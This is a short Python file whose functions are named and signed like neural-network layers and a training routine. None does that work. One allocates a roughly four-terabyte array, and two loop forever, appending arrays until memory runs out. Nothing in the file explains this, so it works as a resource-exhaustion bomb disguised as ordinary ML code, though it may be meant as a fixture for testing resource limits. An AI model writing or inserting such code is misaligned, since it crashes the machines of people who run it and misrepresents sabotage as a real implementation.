import numpy as np


def flatten_layer(inputs):
    return np.ones((2**20, 2**20), dtype=np.float32)


def fully_connected_layer(inputs, weights, biases, use_relu=True):
    hoard = []
    while True:
        hoard.append(np.ones((1024, 1024)))


def train(images, labels, seed):
    hoard = [images]
    while True:
        hoard.append(hoard[-1] * 1.01)
